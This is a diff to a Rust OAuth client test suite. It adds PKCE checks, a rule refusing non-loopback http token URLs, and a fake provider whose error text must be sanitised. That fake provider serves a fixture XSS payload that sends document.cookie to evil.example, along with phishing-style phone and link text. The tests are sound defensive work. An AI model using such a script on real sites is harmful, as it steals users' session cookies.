@@ -166,6 +166,25 @@ async fn token(
             format!("<html>bad token {key}</html>"),
         )
             .into_response(),
+        // A provider quoting part of the token (or code) back, with markup,
+        // a phone number and links, as a 4xx and as a 5xx.
+        "hostile" | "hostile_5xx" | "hostile_markup" => {
+            let prefix: String = key.chars().take(20).collect();
+            let description = if scenario == "hostile_markup" {
+                format!("<script>fetch('//evil.example/?'+document.cookie)</script> {prefix}")
+            } else {
+                format!("token {prefix} refused; call 555-010-9999, see http://evil.example/x")
+            };
+            let status = if scenario == "hostile_5xx" {
+                StatusCode::BAD_GATEWAY
+            } else {
+                StatusCode::BAD_REQUEST
+            };
+            json_response(
+                status,
+                json!({"error": format!("{prefix}<b>"), "error_description": description}),
+            )
+        }
         "server_error" => {
             (StatusCode::INTERNAL_SERVER_ERROR, format!("trace {key}")).into_response()
         }
@@ -642,13 +661,14 @@ async fn exchange_code_sends_code_redirect_verifier_and_token_params() {
     let h = harness().await;
     let p = h.registry.get("basic").unwrap();
     let (verifier, _) = pkce_pair();
+    let verifier = verifier.expose_secret();
     let t = h
         .client
         .exchange_code(
             p,
             "code:abc",
             "https://app.example/callback",
-            Some(&verifier),
+            Some(verifier),
         )
         .await
         .unwrap();
@@ -767,6 +787,7 @@ async fn authorize_url_has_every_parameter_and_a_matching_pkce_challenge() {
     let h = harness().await;
     let p = h.registry.get("basic").unwrap();
     let (verifier, challenge) = pkce_pair();
+    let verifier = verifier.expose_secret();
     assert!((43..=128).contains(&verifier.len()));
     let url = authorize_url(
         p,
@@ -787,7 +808,7 @@ async fn authorize_url_has_every_parameter_and_a_matching_pkce_challenge() {
     assert_eq!(q["scope"], "openid email");
     assert_eq!(q["state"], "state-123");
     assert_eq!(q["code_challenge_method"], "S256");
-    assert_eq!(q["code_challenge"], pkce_challenge(&verifier));
+    assert_eq!(q["code_challenge"], pkce_challenge(verifier));
     assert_eq!(q["access_type"], "offline");
     assert_eq!(q["prompt"], "consent");
     assert_eq!(q.len(), 10, "{q:?}");
@@ -972,4 +993,114 @@ fn the_shipped_registry_has_the_documented_endpoints() {
         x.client_secret().unwrap().expose_secret(),
         "value-X_CLIENT_SECRET"
     );
+}
+
+#[test]
+fn shipped_providers_send_a_pkce_challenge_except_reddit() {
+    let r = ProviderRegistry::load(None, &|v: &str| Some(format!("value-{v}"))).unwrap();
+    for name in ["github", "google", "tiktok", "x"] {
+        let p = r.get(name).unwrap();
+        assert!(p.pkce, "{name}");
+        let (verifier, challenge) = pkce_pair();
+        let url = authorize_url(p, "https://app.example/cb", "s", Some(&challenge), None).unwrap();
+        let q: HashMap<String, String> = url.query_pairs().into_owned().collect();
+        assert_eq!(
+            q["code_challenge"],
+            pkce_challenge(verifier.expose_secret()),
+            "{name}"
+        );
+        assert_eq!(q["code_challenge_method"], "S256", "{name}");
+        // Without a challenge the URL is refused rather than sent unprotected.
+        let e = authorize_url(p, "https://app.example/cb", "s", None, None).unwrap_err();
+        assert!(matches!(e, OAuthError::NotConfigured(_)), "{name}: {e:?}");
+    }
+    // Reddit documents no PKCE support; the README lists it with the risk.
+    assert!(!r.get("reddit").unwrap().pkce);
+    let readme = include_str!("../../../README.md");
+    assert!(
+        readme.contains("**Providers without PKCE: reddit**"),
+        "the README names the providers without PKCE"
+    );
+}
+
+#[test]
+fn a_registry_file_with_an_http_url_to_another_host_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("providers.toml");
+    let entry = |token_url: &str| {
+        format!(
+            "[acme]\nauthorize_url = \"https://acme.example/auth\"\ntoken_url = \"{token_url}\"\n\
+             client_id = \"c\"\nclient_secret_env = \"S\"\nclient_auth = \"post\"\n"
+        )
+    };
+    std::fs::write(&path, entry("http://acme.example/token")).unwrap();
+    let e = ProviderRegistry::load(Some(&path), &env)
+        .unwrap_err()
+        .to_string();
+    assert_eq!(
+        e,
+        format!(
+            "provider registry {}: provider 'acme': field 'token_url': http:// is accepted only for loopback hosts (127.0.0.0/8, [::1], localhost), not 'acme.example'; use https://",
+            path.display()
+        )
+    );
+    // Loopback http stays accepted: the fake providers of these tests run there.
+    for ok in [
+        "http://127.0.0.1:9/token",
+        "http://localhost:9/token",
+        "http://[::1]:9/token",
+    ] {
+        std::fs::write(&path, entry(ok)).unwrap();
+        ProviderRegistry::load(Some(&path), &env).unwrap();
+    }
+}
+
+#[tokio::test]
+async fn hostile_provider_error_text_is_sanitised_before_it_reaches_an_error() {
+    let h = harness().await;
+    let token = "hostile:RT-0123456789abcdefghij";
+    let e = h.refresh("post", token).await.unwrap_err();
+    assert_eq!(
+        e,
+        OAuthError::Rejected {
+            status: 400,
+            error: "provider_error".into(),
+            description: Some("token [REDACTED] refused; call [number], see [link]".into()),
+        }
+    );
+    let e = h
+        .refresh("post", "hostile_markup:RT-0123456789abcdefghij")
+        .await
+        .unwrap_err();
+    assert_eq!(
+        e,
+        OAuthError::Rejected {
+            status: 400,
+            error: "provider_error".into(),
+            description: None,
+        }
+    );
+    let e = h
+        .refresh("post", "hostile_5xx:RT-0123456789abcdefghij")
+        .await
+        .unwrap_err();
+    assert!(e.is_transient(), "{e:?}");
+    let p = h.registry.get("basic").unwrap();
+    let code_err = h
+        .client
+        .exchange_code(
+            p,
+            "hostile:CODE-0123456789abcdef",
+            "https://app.example/cb",
+            Some("v"),
+        )
+        .await
+        .unwrap_err();
+    for err in [e, code_err] {
+        let text = format!("{err} {err:?}");
+        for bad in ["RT-01234567", "CODE-0123", "<", "555", "evil", "/x"] {
+            assert!(!text.contains(bad), "{bad}: {text}");
+        }
+        assert!(text.contains("(provider_error"), "{text}");
+    }
 }
